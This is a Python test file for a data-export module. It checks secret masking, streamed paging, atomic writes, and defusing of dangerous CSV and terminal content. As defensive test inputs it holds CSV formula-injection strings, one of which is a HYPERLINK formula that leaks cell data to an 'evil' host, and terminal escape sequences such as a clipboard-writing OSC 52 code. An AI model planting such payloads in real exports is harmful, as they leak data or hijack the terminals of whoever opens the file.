"""stores.export: every row streamed page by page, secrets stripped, no half file."""
from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest

from console.browse.search import find_entities
from stores import Settings, open_stores
from stores.export import export_rows
from stores.models import AppKey, Tenant
from stores.query import Page


@pytest.fixture
async def demo():  # noqa: ANN201
    stores = await open_stores(Settings(use_postgres=False, demo_data=True))
    yield stores
    await stores.close()


async def test_tenants_export_masks_the_dsn_in_csv_and_json(demo, tmp_path: Path) -> None:  # noqa: ANN001
    calls: list[int] = []

    async def fetch(after: str | None, limit: int) -> Page[Tenant]:
        calls.append(limit)
        return await demo.tenants.page(after=after, limit=limit)

    for name in ("tenants.csv", "tenants.json"):
        target = tmp_path / name
        assert await export_rows(fetch, target, page_size=2) == 3
        text = target.read_text(encoding="utf-8")
        assert "demo-acme-corp-pw" not in text and "acme-corp_app:****@db.internal" in text
    assert calls == [2, 2, 2, 2], "two pages of two per export: streamed, not loaded at once"
    rows = json.loads((tmp_path / "tenants.json").read_text(encoding="utf-8"))
    assert [row["id"] for row in rows] == ["acme-corp", "globex", "initech"]
    assert rows[0]["settings"]["max_users"] == 100000 and rows[0]["created_at"].startswith("2026-01-05T09:00")
    with (tmp_path / "tenants.csv").open(newline="", encoding="utf-8") as handle:
        assert [row["name"] for row in csv.DictReader(handle)] == ["Acme Corporation", "Globex Ltd", "Initech"]


async def test_keys_export_has_no_secret_hash(demo, tmp_path: Path) -> None:  # noqa: ANN001
    keys = await demo.app_keys.list_by_tenant("acme-corp")
    hashes = {key.secret_hash for key in keys}

    async def fetch(after: str | None, limit: int) -> Page[AppKey]:
        return await demo.app_keys.page("acme-corp", after=after, limit=limit)

    for name in ("keys.csv", "keys.json"):
        target = tmp_path / name
        assert await export_rows(fetch, target, page_size=4) == len(keys) == 15
        text = target.read_text(encoding="utf-8")
        assert "secret_hash" not in text and not any(h in text for h in hashes)
    rows = json.loads((tmp_path / "keys.json").read_text(encoding="utf-8"))
    assert rows[0]["scopes"] == ["read", "write"] and rows[0]["revoked"] is False


async def test_an_empty_list_and_a_failed_export(demo, tmp_path: Path) -> None:  # noqa: ANN001
    async def empty(after: str | None, limit: int) -> Page[Any]:
        return await demo.users.page("acme-corp", after=after, limit=limit, filter={"username_prefix": "nobody"})

    from stores.models import User

    assert await export_rows(empty, tmp_path / "none.json") == 0
    assert json.loads((tmp_path / "none.json").read_text()) == []
    assert await export_rows(empty, tmp_path / "none.csv", row_type=User) == 0
    assert (tmp_path / "none.csv").read_text().startswith("id,tenant_id,username,email")

    target = tmp_path / "half.csv"
    target.write_text("the old file\n")
    pages = 0

    async def failing(after: str | None, limit: int) -> Page[Any]:
        nonlocal pages
        pages += 1
        if pages == 3:
            raise OSError("the connection went away")
        return await demo.users.page("acme-corp", after=after, limit=limit)

    with pytest.raises(OSError):
        await export_rows(failing, target, page_size=50)
    assert target.read_text() == "the old file\n", "a failed export leaves the target as it was"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["half.csv", "none.csv", "none.json"], "no half file"


FORMULAS = ['=HYPERLINK("http://evil"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]


async def test_csv_cells_that_start_a_formula_are_quoted_and_json_is_unchanged(tmp_path: Path) -> None:
    """A spreadsheet runs a CSV cell starting with = + - @ (or tab / CR before one) as a
    formula: such text cells get a leading apostrophe in CSV; JSON keeps the value as stored."""
    from stores.models import User

    users = [User(id=f"u{i}", tenant_id="t", username=f"user{i}", email=f"u{i}@x.test", full_name=name,
                  metadata={"note": name})
             for i, name in enumerate([*FORMULAS, "Plain Name", "a=b"])]

    async def fetch(after: str | None, limit: int) -> Page[User]:
        return Page(users, None)

    assert await export_rows(fetch, tmp_path / "users.csv") == len(users)
    with (tmp_path / "users.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    # a carriage return shows as ␍ in CSV (control characters are inert there, see the next test)
    assert [row["full_name"] for row in rows] == [f"'{name}".replace("\r", "\u240d") for name in FORMULAS] + [
        "Plain Name", "a=b"]
    assert rows[0]["metadata"].startswith("{") and rows[0]["id"] == "u0", "JSON cells and plain text untouched"
    await export_rows(fetch, tmp_path / "users.json")
    shown = json.loads((tmp_path / "users.json").read_text(encoding="utf-8"))
    assert [row["full_name"] for row in shown] == [*FORMULAS, "Plain Name", "a=b"]


ESCAPES = ["Q1\x1b[2JQ2\x9b", "\x1b]52;c;UFdORUQ=\x07", "bell\x07", "csi\x9b31m", "del\x7f", "nul-free\x01\x1f",
           "tab\tand\nnewline"]


async def test_control_characters_are_inert_in_csv_and_exact_in_json(tmp_path: Path) -> None:
    """Issue 13 item 4: an export ``cat``-ed on a terminal must not act on it. JSON escapes
    every control character (C0 by JSON itself, DEL and C1 as \\u escapes) and reads back
    exactly; CSV shows them as the screens do (ESC as ␛), keeping tab and newline."""
    from stores.models import User

    users = [User(id=f"u{i}", tenant_id="t", username=f"user{i}", email=f"u{i}@x.test", full_name=name,
                  metadata={name: name})
             for i, name in enumerate(ESCAPES)]

    async def fetch(after: str | None, limit: int) -> Page[User]:
        return Page(users, None)

    for name in ("users.csv", "users.json"):
        await export_rows(fetch, tmp_path / name)
        raw = (tmp_path / name).read_bytes()
        for byte in [*range(0x00, 0x09), *range(0x0b, 0x20), 0x7f]:
            if not (name.endswith(".csv") and byte == 0x0d):  # the CSV writer ends its lines with CRLF
                assert bytes([byte]) not in raw, f"{byte:#04x} in {name}"
        assert "\x9b".encode() not in raw, f"an 8-bit CSI in {name}"
    assert [row["full_name"] for row in json.loads((tmp_path / "users.json").read_text("utf-8"))] == ESCAPES
    with (tmp_path / "users.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [row["full_name"] for row in rows] == ["Q1␛[2JQ2\\x9b", "␛]52;c;UFdORUQ=␇", "bell␇", "csi\\x9b31m", "del␡",
                                                  "nul-free␁␟", "tab\tand\nnewline"]
    assert json.loads(rows[0]["metadata"]) == {ESCAPES[0]: ESCAPES[0]}, "a JSON cell keeps JSON's escapes"


async def test_the_palette_finds_tenants_apps_and_users_by_prefix(demo) -> None:  # noqa: ANN001
    found = await find_entities(demo, "glob")
    assert [(f.kind, f.text) for f in found][:1] == [("tenant", "globex")]
    users = await find_entities(demo, "acme-corp/bob.smith1")
    assert [(f.kind, f.text) for f in users][0] == ("user", "acme-corp/bob.smith1")
    assert users[0].path[-1][0].scope.tenant_id == "acme-corp"
    apps = await find_entities(demo, "acme/acme w")
    assert [(f.kind, f.text) for f in apps] == [("app", "acme-corp/web-app")]
    assert await find_entities(demo, "zzz") == []
